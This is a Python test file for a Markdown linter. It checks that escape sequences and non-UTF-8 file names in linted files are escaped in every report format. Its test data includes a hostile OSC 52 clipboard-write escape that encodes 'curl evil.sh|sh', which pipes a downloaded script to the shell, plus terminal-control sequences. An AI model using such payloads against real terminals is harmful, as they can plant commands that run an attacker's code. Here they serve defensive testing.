"""Issue 10, item 8 (output): what a pull request's files contain or are named cannot drive a
terminal or the runner's log, nor crash a report.

* ``--fix --dry-run`` printed the file's escape sequences (an OSC 52 clipboard write after the
  first 8 KB, which the binary sniffing does not see): every text output escapes control
  characters (C0 but tab and newline, DEL, C1), in the text report, the dry-run diff, the
  GitHub annotations (the web log renders ANSI) and the Markdown reports.
* A non-UTF-8 file name (a surrogate-escaped ``str`` path) crashed the SARIF and Markdown
  reports (and JSON): each format writes it, escaped, and the exit status is the findings'.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names")

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # "set the clipboard to: curl evil.sh|sh"
CSI = "\x1b[2J\x9b31m"  # clear screen (7-bit), colour (8-bit C1 CSI)
FILLER = "".join(f"- [Tool {i}](https://example.com/{i}) - Tool number {i}.\n"
                 for i in range(200))  # > 8 KB: past the binary sniffing
HOSTILE = ("# Awesome List\n\n## Tools\n\n" + FILLER
           + f"\n## Heading {OSC52}{CSI}.\n\n"           # AL114 quotes the heading
           f"1. [One](https://one.example) - One {OSC52}.\n"
           f"2. [Two](https://two.example) - Two {CSI}.\n"
           f"2. [Three](https://three.example) - Three {OSC52}.\n")  # AL101: fixable
CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]


def run(where: Path, *args: str) -> tuple[int, str]:
    done = subprocess.run([sys.executable, "-m", "awesome_lint", *args], cwd=where,
                          capture_output=True, check=False,
                          env={**os.environ, "GITHUB_STEP_SUMMARY": "", "NO_COLOR": "1"})
    return done.returncode, (done.stdout + done.stderr).decode("utf-8", "surrogateescape")


def assert_no_controls(text: str) -> None:
    bad = sorted({repr(c) for c in text if c in CONTROLS})
    assert bad == [], f"control characters in the output: {bad}"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    (tmp_path / "README.md").write_text(HOSTILE, encoding="utf-8")
    return tmp_path


def test_dry_run_diff_escapes_control_characters(hostile: Path) -> None:
    code, out = run(hostile, "--fix", "--dry-run", "--select", "AL101", "README.md")
    assert "+3. [Three](https://three.example) - Three \\x1b]52;c;" in out, out
    assert_no_controls(out)
    assert (hostile / "README.md").read_text(encoding="utf-8") == HOSTILE  # dry run
    assert code in (0, 1)


@pytest.mark.parametrize("fmt", ["text", "github", "markdown", "html"])
def test_reports_escape_control_characters(hostile: Path, fmt: str) -> None:
    code, out = run(hostile, "--format", fmt, "--select", "AL101,AL114", "README.md")
    assert code in (0, 1), out
    assert "52;c;Y3VybCBldmlsLnNofHNo" in out  # the finding is there, quoted and escaped
    assert_no_controls(out)


def test_step_summary_and_markdown_report_escape_control_characters(hostile: Path) -> None:
    summary = hostile / "summary.md"
    report = hostile / "report.md"
    done = subprocess.run([sys.executable, "-m", "awesome_lint", "--format", "github",
                           "--select", "AL101,AL114", "--report", f"markdown:{report}",
                           "README.md"], cwd=hostile, capture_output=True, check=False,
                          env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary)})
    assert done.returncode in (0, 1), done.stderr
    for written in (summary, report):
        text = written.read_text(encoding="utf-8")
        assert "52;c;Y3VybCBldmlsLnNofHNo" in text
        assert_no_controls(text.replace("\n", ""))


# --- non-UTF-8 file names ---------------------------------------------------------------------

NAME = b"caf\xe9 \x1b[31mred.md"  # Latin-1 é, and an escape sequence in the name itself


@pytest.fixture
def latin1(tmp_path: Path) -> Path:
    target = os.path.join(os.fsencode(tmp_path), NAME)  # noqa: PTH118 (bytes)
    with open(target, "wb") as out:  # noqa: PTH123 (a bytes path)
        out.write(b"# Awesome List\n\n## Tools.\n\n- [A](https://a.example) - A.\n")
    return tmp_path


@pytest.mark.parametrize("fmt", ["text", "json", "github", "sarif", "markdown", "html"])
def test_a_non_utf8_file_name_in_every_format(latin1: Path, fmt: str) -> None:
    name = os.fsdecode(NAME)
    code, out = run(latin1, "--format", fmt, "--select", "AL114", "--", name)
    assert code == 0, out  # AL114 is a warning
    assert "Traceback" not in out and "internal error" not in out, out
    assert "caf" in out
    assert_no_controls(out.replace("\n", ""))
    if fmt in ("json", "sarif"):
        data = json.loads(out)
        assert data  # valid JSON, valid UTF-8
    out.encode("utf-8")  # no lone surrogate was written


@pytest.mark.parametrize("fmt", ["json", "sarif", "markdown", "html"])
def test_a_non_utf8_file_name_in_a_report_file(latin1: Path, fmt: str) -> None:
    name = os.fsdecode(NAME)
    report = latin1 / f"report.{fmt}"
    code, out = run(latin1, "--select", "AL114", "--report", f"{fmt}:{report}", "--", name)
    assert code == 0, out
    text = report.read_text(encoding="utf-8")
    assert "caf" in text
    if fmt == "sarif":
        uri = json.loads(text)["runs"][0]["results"][0]["locations"][0]["physicalLocation"][
            "artifactLocation"]["uri"]
        assert uri == "caf%E9%20%1B%5B31mred.md"  # the name's bytes, percent-encoded
